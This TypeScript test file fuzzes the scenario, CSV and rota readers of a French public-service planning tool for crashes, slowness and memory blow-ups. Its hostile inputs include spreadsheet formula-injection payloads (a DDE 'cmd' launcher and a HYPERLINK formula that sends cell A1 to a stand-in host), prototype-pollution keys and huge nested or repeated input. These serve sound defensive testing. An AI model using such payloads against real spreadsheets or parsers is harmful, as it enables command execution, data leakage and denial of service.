/**
 * Files made to do harm, or spoilt on their way: the readers of scenarios, of their CSV lists and of rotas give a scenario or
 * a rota, or an InputError whose every problem has a sentence in French and in English; in bounded time and memory.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { InputError, type Problem } from '../../src/domain/problem.ts';
import { CSV_LISTS } from '../../src/imports/columns.ts';
import { readRota } from '../../src/imports/read-rota.ts';
import { readScenario } from '../../src/imports/read-scenario.ts';
import { en } from '../../src/texts/en.ts';
import { fr } from '../../src/texts/fr.ts';
import { problemSentence } from '../../src/texts/problem-sentence.ts';
import { start } from '../support/command-line.ts';
import { isAsPromised } from '../support/problems-of.ts';
import { smallInput, smallScenario } from '../support/small-scenario.ts';
import { type TemporaryFolder, temporaryFolder } from '../support/temporary-folder.ts';

const SEED = 20_261_122;
const RUNS = 250;
/** Several times what it takes on a busy small machine; what must not happen is minutes. */
const PATIENCE_MILLISECONDS = 15_000;
/** A file may have 64 MB. */
const HEAP_MEGABYTES = 250;

const scenario = smallScenario();
let folder: TemporaryFolder;
beforeAll(async () => {
  folder = await temporaryFolder();
});
afterAll(() => folder.remove());

function expectTold(problems: readonly Problem[]): void {
  expect(problems.length).toBeLessThanOrEqual(201);
  for (const problem of problems) {
    expect(problem).toSatisfy(isAsPromised);
    for (const texts of [fr, en]) {
      const sentence = problemSentence(texts, problem);
      expect(sentence).not.toMatch(/undefined|\[object/);
      expect(sentence.length).toBeLessThan(2000);
    }
  }
}

/** @returns codes of what was wrong; none where it was read. */
async function outcome(reading: Promise<unknown>): Promise<string[]> {
  try {
    await reading;
    return [];
  } catch (error) {
    // Anything else is a bug, and fails the test with its own message.
    if (!(error instanceof InputError)) throw error;
    expect(error.problems.length).toBeGreaterThan(0);
    expectTold(error.problems);
    return [...new Set(error.problems.map(({ code }) => code))];
  }
}

type Content = string | Uint8Array;

async function scenarioOf(files: Readonly<Record<string, Content>>): Promise<string[]> {
  await Promise.all(Object.entries(files).map(([name, content]) => folder.written(name, content)));
  return outcome(readScenario(`${folder.path}/scenario.json`).then(({ warnings }) => expectTold(warnings)));
}

async function rotaOf(content: Content): Promise<string[]> {
  return outcome(readRota(await folder.written('rota.json', content), scenario));
}

async function quickly<T>(action: () => Promise<T>): Promise<T> {
  const started = performance.now();
  const result = await action();
  expect(performance.now() - started).toBeLessThan(PATIENCE_MILLISECONDS);
  return result;
}

/** The small scenario with its lists in CSV files. */
const pointing = JSON.stringify({
  ...smallInput(),
  territory: { ...smallInput().territory, communes: { csv: 'communes.csv' }, servicePoints: { csv: 'points.csv' } },
  stops: { csv: 'stops.csv' },
});
const COMMUNES = `code_insee;nom;lat;lon;population;pop_60_plus;pop_75_plus;menages;menages_sans_voiture;chiffres_estimes
17001;Aube;46;0,06;800;80;40;100;20;
17002;Bief;46;0,12;400;40;20;100;10;pop_60_plus / menages
17003;Cure;46,08;0;480;48;24;100;25;
17004;Dent;46,16;0;160;16;8;100;50;
`;
const POINTS = `id;nom;code_insee;lat;lon;type;format
1;Maison;17001;46;0,06;France services;Fixe
`;
const STOPS = `id;nom;code_insee;lat;lon;places;prise;lundi;dates;jour_marche;invente
aube;"Halle; marché";17001;46;0,06;2;16 A;9h00-12h30 / 14:00-17:00;;mardi;oui
bief;Place;17002;46;0,12;1;;08:00-12:00;2026-01-01..2026-06-30;;non
`;
const FILES: Readonly<Record<string, string>> = {
  'scenario.json': pointing,
  'communes.csv': COMMUNES,
  'points.csv': POINTS,
  'stops.csv': STOPS,
};
const ROTA = JSON.stringify({
  formatVersion: 1,
  name: 'rota',
  scenario: 'small',
  tours: [
    {
      unit: 'bus',
      day: { week: 1, weekday: 'monday' },
      agents: ['ana'],
      lunch: { from: '12:00', to: '12:45' },
      visits: [{ stop: 'aube', opens: '09:00', closes: '11:30' }],
    },
  ],
});

const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
const HOSTILE_CELLS = [
  ...PROTOTYPE_KEYS,
  '=HYPERLINK("http://x.example?"&A1;"Cliquez")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1',
  '-2+3',
  '\t=1',
  '1e308',
  '1e999',
  '-1e999',
  '9'.repeat(400),
  `0,${'9'.repeat(400)}`,
  '0x7fffffff',
  'Infinity',
  'NaN',
  '-0',
  '9007199254740993',
  's',
  'é',
  '\u00e9\u0301\u0301',
  '\ufeff',
  '\u0000',
  '\u202e17001',
  '𝟏𝟕𝟎𝟎𝟏',
  '"',
  '""',
  'a"b',
  ';',
  ',',
  '\r',
  '\n',
  '17001',
  '25:00-26:00',
  '09:00-08:00',
  '2026-02-30',
  '2026-13-01..2026-01-01',
];

const headingsOf = (list: (typeof CSV_LISTS)[number]) =>
  list.list.columns
    .map((column) => column.headings[0]!)
    .concat(PROTOTYPE_KEYS.slice(0, 3), PROTOTYPE_KEYS.map((key) => `public_${key}`).slice(0, 3), 'public_jeunes', '');
const cell = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_CELLS) },
  { weight: 2, arbitrary: fc.constantFrom('17001', 'aube', '46', '0,06', '100', 'oui', '08:00-12:00', '') },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
);

interface Table {
  readonly headings: readonly string[];
  readonly rows: readonly (readonly string[])[];
  readonly delimiter: string;
  readonly lineEnd: string;
  readonly mark: string;
  readonly quoted: boolean;
  readonly encoding: 'utf8' | 'latin1' | 'utf16le';
}

const table = (headings: readonly string[]): fc.Arbitrary<Table> =>
  fc.record({
    headings: fc.oneof(
      { weight: 4, arbitrary: fc.constant(headings.filter((heading) => !PROTOTYPE_KEYS.includes(heading))) },
      { weight: 1, arbitrary: fc.array(fc.constantFrom(...headings), { maxLength: 14 }) },
    ),
    rows: fc.array(fc.array(cell, { minLength: 8, maxLength: 14 }), { maxLength: 6 }),
    delimiter: fc.constantFrom(';', ',', '\t'),
    lineEnd: fc.constantFrom('\n', '\r\n', '\r'),
    mark: fc.constantFrom('', '\ufeff'),
    quoted: fc.boolean(),
    encoding: fc.constantFrom('utf8', 'utf8', 'latin1', 'utf16le'),
  });

function bytesOf({ headings, rows, delimiter, lineEnd, mark, quoted, encoding }: Table): Uint8Array {
  const whole = rows.map((row) => headings.map((_, at) => row[at % Math.max(1, row.length)] ?? ''));
  const written = (text: string) => (quoted ? `"${text.replaceAll('"', '""')}"` : text);
  const lines = [headings, ...whole].map((row) => row.map(written).join(delimiter));
  return Buffer.from(mark + lines.join(lineEnd), encoding);
}

interface Damage {
  readonly file: number;
  readonly at: number;
  readonly kind: 'replace' | 'insert' | 'cut' | 'repeat' | 'truncate';
  readonly bytes: Uint8Array;
}

const damages = fc.array(
  fc.record({
    file: fc.nat(),
    at: fc.nat(),
    kind: fc.constantFrom('replace', 'insert', 'cut', 'repeat', 'truncate'),
    bytes: fc.oneof(
      fc.uint8Array({ minLength: 1, maxLength: 6 }),
      fc.constantFrom(...HOSTILE_CELLS, '[[[', '{"a":', '1e9999', '\\u', '//').map((text) => Buffer.from(text)),
    ),
  }),
  { minLength: 1, maxLength: 5 },
);

function damaged(content: Uint8Array, { at, kind, bytes }: Damage): Uint8Array {
  const place = at % Math.max(1, content.length);
  const before = content.subarray(0, place);
  const after = content.subarray(place);
  switch (kind) {
    case 'replace':
      return Buffer.concat([before, bytes, after.subarray(bytes.length)]);
    case 'insert':
      return Buffer.concat([before, bytes, after]);
    case 'cut':
      return Buffer.concat([before, after.subarray(10)]);
    case 'repeat':
      return Buffer.concat([before, after, after]);
    case 'truncate':
      return before;
  }
}

describe('files spoilt at random', () => {
  test('are good to begin with', async () => {
    expect(await scenarioOf(FILES)).toEqual([]);
    expect(await rotaOf(ROTA)).toEqual([]);
  });

  test.each(
    CSV_LISTS.map((list, at) => [list.path.join('.'), list, ['communes.csv', 'points.csv', 'stops.csv'][at]!] as const),
  )(
    `never break the reader of CSV files: ${RUNS} tables of formulas, prototype keys, huge numbers, in any encoding: %s`,
    async (_, list, name) => {
      await quickly(() =>
        fc.assert(
          fc.asyncProperty(table(headingsOf(list)), async (given) => {
            await scenarioOf({ ...FILES, [name]: bytesOf(given) });
          }),
          { seed: SEED, numRuns: RUNS },
        ),
      );
      expect(({} as Record<string, unknown>).nom).toBeUndefined();
    },
  );

  test(`never break the reader of scenarios: ${RUNS} times a few bytes changed, lost or doubled`, async () => {
    const names = Object.keys(FILES);
    await quickly(() =>
      fc.assert(
        fc.asyncProperty(damages, async (changes) => {
          const files: Record<string, Uint8Array> = Object.fromEntries(
            names.map((name) => [name, Buffer.from(FILES[name]!)]),
          );
          for (const change of changes) {
            const name = names[change.file % names.length]!;
            files[name] = damaged(files[name]!, change);
          }
          await scenarioOf(files);
        }),
        { seed: SEED, numRuns: RUNS },
      ),
    );
  });

  test(`never break the reader of rotas: ${RUNS} times a few bytes changed, lost or doubled`, async () => {
    await quickly(() =>
      fc.assert(
        fc.asyncProperty(damages, async (changes) => {
          await rotaOf(changes.reduce<Uint8Array>(damaged, Buffer.from(ROTA)));
        }),
        { seed: SEED, numRuns: RUNS },
      ),
    );
  });
});

const HEADINGS = 'id;nom;code_insee;lat;lon;places';
const stopRows = (count: number, row: (k: number) => string) =>
  [HEADINGS, ...Array.from({ length: count }, (_, k) => row(k))].join('\n');
const million = 1_000_000;

/**
 * Name, files that replace the good ones, what is told. Time and peak memory were measured of each in a process of its own,
 * whose start is 100 MB; files of 60 MB took 1 to 3 s and at most 340 MB.
 */
const HOSTILE_SCENARIOS: readonly (readonly [string, Readonly<Record<string, () => Content>>, string[]])[] = [
  [
    '10,000 stops (0.3 s, 160 MB)',
    { 'stops.csv': () => stopRows(10_000, (k) => `s${k};Stop;17001;46;0,06;2`) },
    ['too-many'],
  ],
  ['5,000 stops, which may be (0.2 s)', { 'stops.csv': () => stopRows(5000, (k) => `s${k};Stop;17001;46;0,06;2`) }, []],
  [
    '10,000 stops, each with four mistakes (0.6 s, 270 MB)',
    { 'stops.csv': () => stopRows(10_000, (k) => `s${k};=HYPERLINK("x");__proto__;1e999;${'9'.repeat(50)};-5`) },
    ['not-a-number', 'more-problems'],
  ],
  ['60,000 lines (0.9 s, 380 MB)', { 'stops.csv': () => stopRows(60_000, () => 'a;b;17001;46;0;1') }, ['too-many']],
  ['20 million line breaks', { 'stops.csv': () => HEADINGS + '\n'.repeat(20 * million) }, ['too-many', 'csv-no-rows']],
  ['20 million semicolons', { 'stops.csv': () => `${HEADINGS}\n${';'.repeat(20 * million)}` }, ['too-many-values']],
  ['20 million semicolons for headings', { 'stops.csv': () => ';'.repeat(20 * million) }, ['too-many-values']],
  [
    '20 million quotation marks',
    { 'stops.csv': () => `${HEADINGS}\n${'"'.repeat(20 * million)}` },
    ['too-many-values'],
  ],
  [
    'half a million quotation marks out of place',
    { 'stops.csv': () => `${HEADINGS}\n${'"a;\n'.repeat(million / 2)}` },
    ['csv-quotes'],
  ],
  ['a cell of 20 MB', { 'stops.csv': () => `${HEADINGS}\ns1;${'x'.repeat(20 * million)};17001;46;0;2` }, ['too-long']],
  [
    'a number of 20 million digits',
    { 'stops.csv': () => `${HEADINGS}\ns1;x;17001;${'9'.repeat(20 * million)};0;2` },
    ['not-a-number'],
  ],
  [
    'a heading of 10 million accents',
    { 'stops.csv': () => `${'a\u0301'.repeat(5 * million)};b\n1;2` },
    ['csv-missing-column'],
  ],
  [
    'opening hours of 20 MB',
    { 'stops.csv': () => `${HEADINGS};lundi\ns1;x;17001;46;0;2;${'08:00-12:00 / '.repeat(1.4 * million)}` },
    ['bad-format'],
  ],
  ['10 million lists in each other', { 'scenario.json': () => '['.repeat(10 * million) }, ['too-deep']],
  [
    '5 million objects in each other',
    { 'scenario.json': () => `${'{"a":'.repeat(5 * million)}1${'}'.repeat(5 * million)}` },
    ['too-deep'],
  ],
  [
    'a text of 10 million escapes that does not end',
    { 'scenario.json': () => `{"a":"${'\\n'.repeat(10 * million)}` },
    ['not-json'],
  ],
  [
    'a number of 20 million digits that is none',
    { 'scenario.json': () => `{"a":${'9'.repeat(20 * million)}x}` },
    ['not-json'],
  ],
  [
    'a million keys',
    { 'scenario.json': () => `{${Array.from({ length: million }, (_, k) => `"k${k}":1`).join()}}` },
    ['too-many-values'],
  ],
  [
    'numbers beyond all numbers',
    { 'scenario.json': () => pointing.replace('"formatVersion":1', '"formatVersion":1e999') },
    ['format-version-newer'],
  ],
];

describe('a scenario', () => {
  test.each(HOSTILE_SCENARIOS)('that is told in a moment: %s', async (_, contents, codes) => {
    const files = Object.fromEntries(Object.entries(contents).map(([name, content]) => [name, content()]));
    const found = await quickly(() => scenarioOf({ ...FILES, ...files }));
    expect(found).toEqual(expect.arrayContaining(codes));
    if (codes.length === 0) expect(found).toEqual([]);
  });

  test('may have formulas for names, which stay texts', async () => {
    const formula = '=HYPERLINK("http://x.example";"Cliquez")';
    const quoted = `"${formula.replaceAll('"', '""')}"`;
    await scenarioOf({ ...FILES, 'stops.csv': STOPS.replace('Place', quoted) });
    const read = await readScenario(`${folder.path}/scenario.json`);
    expect(read.scenario.stops[1]!.name).toBe(formula);
  });

  test('is told file, line, column and value of a formula in place of a number', async () => {
    await folder.written('scenario.json', pointing);
    await folder.written('stops.csv', STOPS.replace('46;0,12', '=1+1;0,12'));
    const error = await readScenario(`${folder.path}/scenario.json`).catch((thrown: unknown) => thrown);
    expect((error as InputError).problems).toMatchObject([
      { code: 'not-a-number', parameters: { value: '=1+1', file: 'stops.csv', line: 3, column: 'lat' } },
    ]);
  });
});

describe('a rota', () => {
  const visit = '{"stop":"constructor","opens":"09:00","closes":"11:30"}';
  const tour = `{"unit":"__proto__","day":{"week":1,"weekday":"monday"},"visits":[${Array(10).fill(visit)}]}`;

  test.each<readonly [string, () => string, string]>([
    [
      '20,000 tours that name things of the prototype (2 s, 450 MB)',
      () => ROTA.replace(/"tours":.*/, `"tours":[${Array(20_000).fill(tour)}]}`),
      'unknown-stop',
    ],
    ['10 million lists in each other (0.1 s)', () => '['.repeat(10 * million), 'too-deep'],
    [
      'keys of the prototype',
      () => ROTA.replace('"name"', '"__proto__":{"tours":[]},"constructor":1,"name"'),
      'unknown-key',
    ],
    ['numbers beyond all numbers', () => ROTA.replace('"week":1', '"week":1e999'), 'not-a-number'],
    ['weeks without number', () => ROTA.replace('"week":1', `"week":${'9'.repeat(1000)}`), 'not-a-number'],
  ])('that is told in a moment: %s', async (_, content, code) => {
    expect(await quickly(() => rotaOf(content()))).toContain(code);
  });

  test.each(['utf16le', 'latin1'] as const)('in %s is told so', async (encoding) => {
    expect(await rotaOf(Buffer.from(`\ufeff${ROTA.replace('rota', 'été')}`, encoding))).toEqual(['file-not-utf8']);
  });

  test('may have a byte order mark and CRLF', async () => {
    expect(await rotaOf(`\ufeff${JSON.stringify(JSON.parse(ROTA), null, 2).replaceAll('\n', '\r\n')}`)).toEqual([]);
  });
});

describe('memory', () => {
  const worst: readonly (readonly [string, string, () => string])[] = [
    ['60 million semicolons', 'stops.csv', () => `${HEADINGS}\n${';'.repeat(60 * million)}`],
    ['60 million quotation marks', 'stops.csv', () => `${HEADINGS}\n${'"'.repeat(60 * million)}`],
    ['60 million lists in each other', 'scenario.json', () => '['.repeat(60 * million)],
    ['a text of 30 million escapes', 'scenario.json', () => `{"a":"${'\\n'.repeat(30 * million)}`],
  ];

  test.each(worst)(`is bounded: a command with ${HEAP_MEGABYTES} MB of heap tells of %s`, async (_, name, content) => {
    await Promise.all(Object.entries(FILES).map(([file, text]) => folder.written(file, text)));
    await folder.written(name, content());
    const heap = { NODE_OPTIONS: `--max-old-space-size=${HEAP_MEGABYTES}` };
    const { code, stderr } = await start(['need', `${folder.path}/scenario.json`, '--lang', 'en'], heap).ended;
    expect(code).toBe(2);
    expect(stderr).toContain('problem');
    expect(stderr).not.toMatch(/\n {4}at /);
  });
});
